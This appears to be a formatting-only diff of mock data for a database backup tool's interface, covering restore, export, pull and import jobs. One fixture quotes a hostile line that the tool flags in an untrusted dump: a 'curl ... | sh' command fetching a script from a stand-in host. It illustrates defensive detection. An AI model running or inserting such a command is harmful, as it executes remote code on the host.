@@ -79,7 +79,12 @@ export const runningJob: JobView = {
       rows: 7_204_911,
     }),
     phase('vault', 'Vault', 'Manifest and snapshot to “Anchor”, then read back.', 'waits'),
-    phase('verify', 'Verify', 'Read every block back from “Anchor”, compare its hash or seal, list the archive. Only then it counts.', 'waits'),
+    phase(
+      'verify',
+      'Verify',
+      'Read every block back from “Anchor”, compare its hash or seal, list the archive. Only then it counts.',
+      'waits',
+    ),
   ],
   bytesPerSecond: 48_000_000,
   leftLowMs: 2 * MINUTE,
@@ -163,22 +168,44 @@ export const restored: RestoreView = {
 
 /** A swap: the safety backup first, then the restore, then the names. */
 const recovery: PhaseView[] = [
-  phase('snapshot', 'Snapshot', 'Safety backup: one moment of shop as it is now, held open for every reader.', 'done', {
-    startedAtMs: NOW - 14 * MINUTE,
-    elapsedMs: 1200,
+  phase(
+    'snapshot',
+    'Snapshot',
+    'Safety backup: one moment of shop as it is now, held open for every reader.',
+    'done',
+    {
+      startedAtMs: NOW - 14 * MINUTE,
+      elapsedMs: 1200,
+    },
+  ),
+  phase(
+    'dump',
+    'Dump',
+    'Safety backup: every table of shop as it is now into vault “Anchor”, hashed as it is written.',
+    'done',
+    {
+      elapsedMs: 192_000,
+      bytes: 9_230_000_000,
+      bytesTotal: 9_230_000_000,
+    },
+  ),
+  phase('vault', 'Vault', 'Safety backup: manifest and snapshot to “Anchor”, then read back.', 'done', {
+    elapsedMs: 900,
   }),
-  phase('dump', 'Dump', 'Safety backup: every table of shop as it is now into vault “Anchor”, hashed as it is written.', 'done', {
-    elapsedMs: 192_000,
-    bytes: 9_230_000_000,
-    bytesTotal: 9_230_000_000,
+  phase(
+    'verify',
+    'Verify',
+    'Safety backup: read every block back from “Anchor”, list the archive. Only then it counts.',
+    'done',
+    {
+      elapsedMs: 48_000,
+      bytes: 312_000_000,
+      bytesTotal: 312_000_000,
+    },
+  ),
+  phase('prepare', 'Prepare', 'Create a database beside shop on db.shop.example.', 'done', {
+    elapsedMs: 700,
   }),
-  phase('vault', 'Vault', 'Safety backup: manifest and snapshot to “Anchor”, then read back.', 'done', { elapsedMs: 900 }),
-  phase('verify', 'Verify', 'Safety backup: read every block back from “Anchor”, list the archive. Only then it counts.', 'done', {
-    elapsedMs: 48_000,
-    bytes: 312_000_000,
-    bytesTotal: 312_000_000,
-  }),
-  phase('prepare', 'Prepare', 'Create a database beside shop on db.shop.example.', 'done', { elapsedMs: 700 }),
   phase('structure', 'Structure', 'Schemas, types, 42 tables and functions.', 'done', { elapsedMs: 2100 }),
   phase('rows', 'Rows', '9.23 GB from the vault into COPY, several tables at once.', 'running', {
     startedAtMs: NOW - 3 * MINUTE,
@@ -187,7 +214,12 @@ const recovery: PhaseView[] = [
     bytesTotal: 9_230_000_000,
     rows: 7_204_911,
   }),
-  phase('indexes', 'Indexes', 'Indexes, constraints and triggers, in parallel; beside them, rows and fingerprints of every table.', 'waits'),
+  phase(
+    'indexes',
+    'Indexes',
+    'Indexes, constraints and triggers, in parallel; beside them, rows and fingerprints of every table.',
+    'waits',
+  ),
   phase('check', 'Check', 'Nothing differs from the manifest, no index is half-built.', 'waits'),
   phase('switch', 'Switch', 'The restored database becomes shop, in one transaction.', 'waits'),
 ];
@@ -199,7 +231,13 @@ const recoveryFacts = [
 
 export const restoringJob: JobView = {
   ...runningJob,
-  row: jobRow({ id: 'j-restoring', kind: 'restore', title: 'Restoring shop-prod into shop', percent: 58, phase: 'Rows' }),
+  row: jobRow({
+    id: 'j-restoring',
+    kind: 'restore',
+    title: 'Restoring shop-prod into shop',
+    percent: 58,
+    phase: 'Rows',
+  }),
   sentence: 'From vault “Anchor” into shop on db.shop.example:5432.',
   phases: recovery,
   facts: recoveryFacts,
@@ -262,25 +300,49 @@ export const exportedJob: JobView = {
     phase: null,
     startedAtMs: NOW - 4 * MINUTE,
     finishedAtMs: NOW - MINUTE,
-    outcome: '5 files in /media/stick/shop-prod-2026-11-21.tar.zst, 2.9 GB. Every checksum was read back from it.',
+    outcome:
+      '5 files in /media/stick/shop-prod-2026-11-21.tar.zst, 2.9 GB. Every checksum was read back from it.',
   }),
-  sentence: 'Backup b-shop-p (the whole backup) from vault “Anchor” to /media/stick/shop-prod-2026-11-21.tar.zst, not encrypted: whoever has the file can read all data in it.',
+  sentence:
+    'Backup b-shop-p (the whole backup) from vault “Anchor” to /media/stick/shop-prod-2026-11-21.tar.zst, not encrypted: whoever has the file can read all data in it.',
   phases: [
-    phase('read', 'Look', 'The manifest and the list of files, from “Anchor”; the space where the file goes.', 'done', { elapsedMs: 300 }),
-    phase('write', 'Write', 'From “Anchor” to /media/stick/shop-prod-2026-11-21.tar.zst, packed with zstd; every file is held against the manifest.', 'done', {
-      elapsedMs: 142_000,
-      bytes: 13_070_000_000,
-      bytesTotal: 13_070_000_000,
-    }),
-    phase('check', 'Check', 'Read back from the disk, every checksum in it compared. Only then the file gets its name.', 'done', {
-      elapsedMs: 38_000,
-      bytes: 13_070_000_000,
-      bytesTotal: 13_070_000_000,
-    }),
+    phase(
+      'read',
+      'Look',
+      'The manifest and the list of files, from “Anchor”; the space where the file goes.',
+      'done',
+      { elapsedMs: 300 },
+    ),
+    phase(
+      'write',
+      'Write',
+      'From “Anchor” to /media/stick/shop-prod-2026-11-21.tar.zst, packed with zstd; every file is held against the manifest.',
+      'done',
+      {
+        elapsedMs: 142_000,
+        bytes: 13_070_000_000,
+        bytesTotal: 13_070_000_000,
+      },
+    ),
+    phase(
+      'check',
+      'Check',
+      'Read back from the disk, every checksum in it compared. Only then the file gets its name.',
+      'done',
+      {
+        elapsedMs: 38_000,
+        bytes: 13_070_000_000,
+        bytesTotal: 13_070_000_000,
+      },
+    ),
   ],
   facts: [
     { name: 'From', value: 'b-shop-p of shop-prod', note: 'the whole backup' },
-    { name: 'To', value: '/media/stick/shop-prod-2026-11-21.tar.zst', note: 'as one file, not encrypted: whoever has the file can read all data in it' },
+    {
+      name: 'To',
+      value: '/media/stick/shop-prod-2026-11-21.tar.zst',
+      note: 'as one file, not encrypted: whoever has the file can read all data in it',
+    },
   ],
   verdict: null,
   file: {
@@ -295,53 +357,123 @@ export const exportedJob: JobView = {
 /** A pull that fetches. */
 export const pullJob: JobView = {
   ...runningJob,
-  row: jobRow({ id: 'j-pull', kind: 'pull', title: 'Pulling booking-manager', projectId: 'p-booking-manager', project: 'booking-manager', percent: 38, phase: 'Fetch' }),
+  row: jobRow({
+    id: 'j-pull',
+    kind: 'pull',
+    title: 'Pulling booking-manager',
+    projectId: 'p-booking-manager',
+    project: 'booking-manager',
+    percent: 38,
+    phase: 'Fetch',
+  }),
   sentence: 'From SupaManager at manager.example to vault “Anchor”.',
   phases: [
     phase('ask', 'Ask', 'What SupaManager has, and what of it is here.', 'done', { elapsedMs: 900 }),
-    phase('fetch', 'Fetch', '3.11 GB from SupaManager, with 8 streams.', 'running', { startedAtMs: NOW - 40_000, elapsedMs: 40_000, bytes: 1_200_000_000, bytesTotal: 3_110_000_000 }),
+    phase('fetch', 'Fetch', '3.11 GB from SupaManager, with 8 streams.', 'running', {
+      startedAtMs: NOW - 40_000,
+      elapsedMs: 40_000,
+      bytes: 1_200_000_000,
+      bytesTotal: 3_110_000_000,
+    }),
     phase('open', 'Open', 'Every layer and part of it, checked; nothing in it is run.', 'waits'),
     phase('vault', 'Vault', 'Its parts to “Anchor”, then read back.', 'waits'),
-    phase('verify', 'Verify', 'Read every block back from “Anchor”, list the archive. Only then it counts.', 'waits'),
+    phase(
+      'verify',
+      'Verify',
+      'Read every block back from “Anchor”, list the archive. Only then it counts.',
+      'waits',
+    ),
   ],
   facts: [{ name: 'Started', value: 'by hand', note: null }],
   canPause: true,
-  safeNext: 'What was fetched stays, and the next pull goes on from there. Nothing of it is in the list of backups.',
+  safeNext:
+    'What was fetched stays, and the next pull goes on from there. Nothing of it is in the list of backups.',
 };
 
 /** The same, paused in the middle. */
 export const pausedJob: JobView = {
   ...pullJob,
   canPause: false,
-  row: jobRow({ ...pullJob.row, id: 'j-paused', state: 'cancelled', finishedAtMs: NOW - MINUTE, startedAtMs: NOW - 2 * MINUTE, outcome: 'Paused. What was fetched stays here, and is no backup yet.' }),
+  row: jobRow({
+    ...pullJob.row,
+    id: 'j-paused',
+    state: 'cancelled',
+    finishedAtMs: NOW - MINUTE,
+    startedAtMs: NOW - 2 * MINUTE,
+    outcome: 'Paused. What was fetched stays here, and is no backup yet.',
+  }),
   phases: pullJob.phases.map((each) => (each.state === 'running' ? { ...each, state: 'failed' } : each)),
   bytesPerSecond: null,
   leftLowMs: null,
   leftHighMs: null,
-  goesOn: { remoteIds: ['rb-11'], bytesHere: 1_203_339_264, bytesTotal: 3_110_000_000, needsPassphrase: false, isPaused: true },
+  goesOn: {
+    remoteIds: ['rb-11'],
+    bytesHere: 1_203_339_264,
+    bytesTotal: 3_110_000_000,
+    needsPassphrase: false,
+    isPaused: true,
+  },
 };
 
 /** Killed in the middle of several, the first of them encrypted. */
 export const killedPullJob: JobView = {
   ...pausedJob,
-  row: jobRow({ ...pausedJob.row, id: 'j-killed', state: 'interrupted', outcome: 'Interrupted: its process ended.' }),
-  goesOn: { remoteIds: ['rb-11', 'rb-08', 'rb-05'], bytesHere: 1_203_339_264, bytesTotal: 3_110_000_000, needsPassphrase: true, isPaused: false },
+  row: jobRow({
+    ...pausedJob.row,
+    id: 'j-killed',
+    state: 'interrupted',
+    outcome: 'Interrupted: its process ended.',
+  }),
+  goesOn: {
+    remoteIds: ['rb-11', 'rb-08', 'rb-05'],
+    bytesHere: 1_203_339_264,
+    bytesTotal: 3_110_000_000,
+    needsPassphrase: true,
+    isPaused: false,
+  },
   safeNext: 'It is safe to go on with it: what was fetched is used, and only the rest is fetched.',
 };
 
 /** A download whose server went away for good. */
 export const failedPullJob: JobView = {
   ...pausedJob,
-  row: jobRow({ ...pausedJob.row, id: 'j-pull-failed', state: 'failed', outcome: 'the server gives nothing any more' }),
-  error: { code: 'download_stalled', message: 'nothing came for 10 minutes: the connection gave nothing any more', hint: 'See whether this computer and the server are online, then go on: what came is kept.', retry: 'now', reportId: '88a1c0de' },
-  goesOn: { remoteIds: ['rb-11'], bytesHere: 1_203_339_264, bytesTotal: 3_110_000_000, needsPassphrase: false, isPaused: false },
+  row: jobRow({
+    ...pausedJob.row,
+    id: 'j-pull-failed',
+    state: 'failed',
+    outcome: 'the server gives nothing any more',
+  }),
+  error: {
+    code: 'download_stalled',
+    message: 'nothing came for 10 minutes: the connection gave nothing any more',
+    hint: 'See whether this computer and the server are online, then go on: what came is kept.',
+    retry: 'now',
+    reportId: '88a1c0de',
+  },
+  goesOn: {
+    remoteIds: ['rb-11'],
+    bytesHere: 1_203_339_264,
+    bytesTotal: 3_110_000_000,
+    needsPassphrase: false,
+    isPaused: false,
+  },
 };
 
 /** An import that is done. */
 export const importJob: JobView = {
   ...pullJob,
   canPause: false,
-  row: jobRow({ id: 'j-import', kind: 'import', title: 'Importing into shop-prod', state: 'succeeded', percent: 100, phase: null, startedAtMs: NOW - 120_000, finishedAtMs: NOW - 1000, outcome: 'Readable: 39 tables, 11,912,400 rows, 24,016 files.' }),
+  row: jobRow({
+    id: 'j-import',
+    kind: 'import',
+    title: 'Importing into shop-prod',
+    state: 'succeeded',
+    percent: 100,
+    phase: null,
+    startedAtMs: NOW - 120_000,
+    finishedAtMs: NOW - 1000,
+    outcome: 'Readable: 39 tables, 11,912,400 rows, 24,016 files.',
+  }),
   sentence: 'full_20261114_020003.tar.gz.enc to vault “Anchor”.',
   phases: pullJob.phases.slice(2).map((each) => ({ ...each, state: 'done', elapsedMs: 30_000 })),
   bytesPerSecond: null,
@@ -410,13 +542,34 @@ export const backups: BackupRow[] = Array.from({ length: 36 }, (_, index) =>
           ? proof('restored', DAY, 'fail', 'public.orders has 12 rows less than the manifest')
           : proof(index % 4 === 1 ? 'restored' : 'readable', 2 * HOUR + index * 6 * HOUR),
     warnings: index === 3 ? 1 : 0,
-    needs: index === 11 ? { name: 'backup_shop_20261119_020000', id: 'b-8c04d215', atMs: NOW - 2 * HOUR - 14 * MINUTE - 15 * 6 * HOUR } : null,
-    heldBack: index === 13 ? 'orders has exactly 1,000 rows, which is what a platform reads at once: it was probably cut. Back the database up directly' : null,
+    needs:
+      index === 11
+        ? {
+            name: 'backup_shop_20261119_020000',
+            id: 'b-8c04d215',
+            atMs: NOW - 2 * HOUR - 14 * MINUTE - 15 * 6 * HOUR,
+          }
+        : null,
+    heldBack:
+      index === 13
+        ? 'orders has exactly 1,000 rows, which is what a platform reads at once: it was probably cut. Back the database up directly'
+        : null,
   }),
 );
 
 /** Names of tables, the first as a shop has them. */
-export const TABLES = ['events', 'order_items', 'orders', 'payments', 'carts', 'customers', 'addresses', 'products', 'sessions', 'invoices'];
+export const TABLES = [
+  'events',
+  'order_items',
+  'orders',
+  'payments',
+  'carts',
+  'customers',
+  'addresses',
+  'products',
+  'sessions',
+  'invoices',
+];
 
 /** What a backup that came as a file says of itself. */
 const artifact: ArtifactView = {
@@ -434,10 +587,26 @@ const artifact: ArtifactView = {
 };
 
 export function backupView(row: BackupRow, tables = 42, scenario = ''): BackupView {
-  const made = databaseView(row, ['file_without_database', 'file_unloaded', 'file_given'].includes(scenario) ? 0 : tables);
+  const made = databaseView(
+    row,
+    ['file_without_database', 'file_unloaded', 'file_given'].includes(scenario) ? 0 : tables,
+  );
   if (!scenario.startsWith('file_')) return made;
-  const ofPlatform = ['file_backup', 'file_telegram'].includes(scenario) ? { projectId: 'p-booking-manager', project: 'booking-manager' } : {};
-  const view: BackupView = { ...made, row: { ...made.row, ...ofPlatform, components: [...row.components, 'artifact'] }, artifact, toolVersion: null, origin: 'SupaManager at manager.example', lsn: null, trees: [{ component: 'storage', path: 'storage', files: 24_016, sizeBytes: 5_790_000_000 }, { component: 'config', path: 'config', files: 3, sizeBytes: 9150 }] };
+  const ofPlatform = ['file_backup', 'file_telegram'].includes(scenario)
+    ? { projectId: 'p-booking-manager', project: 'booking-manager' }
+    : {};
+  const view: BackupView = {
+    ...made,
+    row: { ...made.row, ...ofPlatform, components: [...row.components, 'artifact'] },
+    artifact,
+    toolVersion: null,
+    origin: 'SupaManager at manager.example',
+    lsn: null,
+    trees: [
+      { component: 'storage', path: 'storage', files: 24_016, sizeBytes: 5_790_000_000 },
+      { component: 'config', path: 'config', files: 3, sizeBytes: 9150 },
+    ],
+  };
   if (scenario === 'file_unloaded')
     return {
       ...view,
@@ -446,7 +615,11 @@ export function backupView(row: BackupRow, tables = 42, scenario = ''): BackupVi
       serverVersion: null,
       extensions: [],
       trees: view.trees.slice(1),
-      artifact: { ...artifact, unloaded: 'database/roles.sql, line 12: \\! curl -s https://paste.example/x | sh would run a program', isTrusted: false },
+      artifact: {
+        ...artifact,
+        unloaded: 'database/roles.sql, line 12: \\! curl -s https://paste.example/x | sh would run a program',
+        isTrusted: false,
+      },
     };
   if (scenario === 'file_given')
     return {
@@ -455,11 +628,26 @@ export function backupView(row: BackupRow, tables = 42, scenario = ''): BackupVi
       parts: [],
       serverVersion: null,
       extensions: [],
-      artifact: { ...artifact, what: 'Configuration of abcdefghijklmnopqrst at Supabase', layers: [], madeBy: 'Supabase', madeAtMs: null, remoteId: null, findings: ['auth.json changed: site_url.'] },
+      artifact: {
+        ...artifact,
+        what: 'Configuration of abcdefghijklmnopqrst at Supabase',
+        layers: [],
+        madeBy: 'Supabase',
+        madeAtMs: null,
+        remoteId: null,
+        findings: ['auth.json changed: site_url.'],
+      },
       trees: [{ component: 'config', path: '/config', files: 13, sizeBytes: 48_120 }],
     };
   if (scenario !== 'file_without_database') return view;
-  return { ...view, row: { ...row, components: ['artifact', 'logs'], tables: 0, rows: null }, parts: [], serverVersion: null, extensions: [], trees: [{ component: 'logs', path: 'logs', files: 41, sizeBytes: 880_000_000 }] };
+  return {
+    ...view,
+    row: { ...row, components: ['artifact', 'logs'], tables: 0, rows: null },
+    parts: [],
+    serverVersion: null,
+    extensions: [],
+    trees: [{ component: 'logs', path: 'logs', files: 41, sizeBytes: 880_000_000 }],
+  };
 }
 
 function databaseView(row: BackupRow, tables: number): BackupView {
